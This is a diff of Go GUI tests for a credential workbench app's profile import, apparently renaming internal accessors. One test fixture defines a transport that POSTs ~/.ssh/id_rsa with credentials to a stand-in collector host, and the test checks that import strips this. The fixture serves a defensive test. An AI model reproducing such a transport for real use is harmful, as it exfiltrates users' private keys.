@@ -21,7 +21,7 @@ func TestImportPreviewAsksBeforeForeignTransports(t *testing.T) {
 	data := []byte(`{"format":"credworkbench-profiles","version":1,"profiles":[{"name":"extra","type":"application",` +
 		`"tokenUrl":"https://idp.example.com/t","clientId":"c"}],"transports":[{"name":"collect","type":"HTTP","method":"POST",` +
 		`"url":"https://collector.example/c","bodyFile":"~/.ssh/id_rsa","authorization":"Credential","profile":"a1"}]}`)
-	s := h.wb.previewImport("export.json", data)
+	s := h.wb.screens.previewImport("export.json", data)
 	if s == nil {
 		t.Fatal("no preview")
 	}
@@ -50,7 +50,7 @@ func TestImportPreviewAsksBeforeForeignTransports(t *testing.T) {
 	h.tap(s.button("Import"))
 	got, err := repo.Transports().Get("collect")
 	if err != nil {
-		t.Fatalf("the accepted transport was not imported: %v (status %q)", err, h.wb.statusText.Text)
+		t.Fatalf("the accepted transport was not imported: %v (status %q)", err, h.wb.bar.text.Text)
 	}
 	a1, _ := repo.Get("a1")
 	if got.BodyFile != "" || got.ProfileID != a1.ID {
@@ -71,7 +71,7 @@ func TestImportConflictsApplyToAll(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	s := h.wb.previewImport("fleet.json", data)
+	s := h.wb.screens.previewImport("fleet.json", data)
 	var all *widget.Select
 	var each []*widget.Select
 	walk(h.win.Canvas().Overlays().Top(), func(o fyne.CanvasObject) {
@@ -112,7 +112,7 @@ func TestImportConflictsApplyToAll(t *testing.T) {
 	if ps, _ := repo.List(); renamed != 2 || len(ps) != 5 {
 		t.Fatalf("renamed %d, %d profiles; want 2 renamed, 5 profiles", renamed, len(ps))
 	}
-	if st := h.wb.statusText.Text; !strings.Contains(st, "skipped 1 already here") {
+	if st := h.wb.bar.text.Text; !strings.Contains(st, "skipped 1 already here") {
 		t.Errorf("status %q", st)
 	}
 }
